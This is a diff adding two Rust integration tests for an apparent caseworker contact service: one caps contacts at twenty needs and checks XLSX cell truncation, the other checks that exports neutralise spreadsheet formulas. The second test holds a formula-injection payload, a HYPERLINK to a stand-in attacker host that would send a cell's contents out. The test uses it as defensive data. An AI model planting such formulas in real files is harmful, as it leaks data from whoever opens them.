@@ -148,3 +148,76 @@ async fn api_tokens_and_sessions_stop_working_when_the_password_changes_or_is_re
     .await
     .expect("test took too long");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_contact_raises_at_most_twenty_needs_and_the_xlsx_export_survives_long_cells() {
+    tokio::time::timeout(TEST, async {
+        let api = Api::start().await;
+        let cw = api.login("cw1").await;
+        let need = |i: usize| json!({"category": "other", "description": format!("{i}:{}", "需".repeat(1900))});
+        let contact = |n: usize| {
+            json!({"household_id": "h1", "method": "phone", "outcome": "needs_help",
+                   "needs": (0..n).map(need).collect::<Vec<_>>()})
+        };
+        let r = cw.post("/contacts", contact(21)).await;
+        assert_eq!(r.status, 400, "{}", r.code());
+        assert_eq!(r.json["field"], "needs");
+        let open = api.gw.workflow.needs(&Default::default()).await.unwrap();
+        assert!(open.is_empty(), "nothing was stored: {}", open.len());
+        let r = cw.post("/contacts", contact(20)).await;
+        assert_eq!(r.status, 201, "{}", r.code());
+
+        // 20 × 1900 characters in one cell: over Excel's limit, cut with a marker.
+        let head = api.login("head1").await;
+        let r = head
+            .builder("GET", "/exports/contacts?format=xlsx", None)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status().as_u16(), 200);
+        let bytes = r.bytes().await.unwrap();
+        let sheets = anxin_gateway::workflow::table::read_xlsx(&bytes).unwrap();
+        let needs_cell = sheets[0].1[1].last().unwrap();
+        assert_eq!(needs_cell.chars().count(), 32_767);
+        assert!(needs_cell.ends_with("…[truncated]"), "{}", &needs_cell[..20]);
+        api.stop().await;
+    })
+    .await
+    .expect("test took too long");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_in_a_note_is_exported_as_text_and_negative_numbers_stay_numbers() {
+    tokio::time::timeout(TEST, async {
+        let api = Api::start().await;
+        let cw = api.login("cw1").await;
+        let note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
+        let r = cw
+            .post(
+                "/contacts",
+                json!({"household_id": "h1", "method": "phone", "outcome": "well", "note": note}),
+            )
+            .await;
+        assert_eq!(r.status, 201, "{}", r.text);
+        let head = api.login("head1").await;
+        let r = head.get("/exports/contacts?format=csv").await;
+        assert_eq!(r.status, 200, "{}", r.text);
+        let rows = anxin_gateway::workflow::table::read_csv(r.text.as_bytes()).unwrap();
+        let note_col = rows[0]
+            .iter()
+            .position(|h| h == "note" || h == "备注")
+            .unwrap();
+        assert_eq!(rows[1][note_col], format!("'{note}"));
+        let r = head
+            .builder("GET", "/exports/contacts?format=xlsx", None)
+            .send()
+            .await
+            .unwrap();
+        let bytes = r.bytes().await.unwrap();
+        let sheets = anxin_gateway::workflow::table::read_xlsx(&bytes).unwrap();
+        assert_eq!(sheets[0].1[1][note_col], format!("'{note}"));
+        api.stop().await;
+    })
+    .await
+    .expect("test took too long");
+}
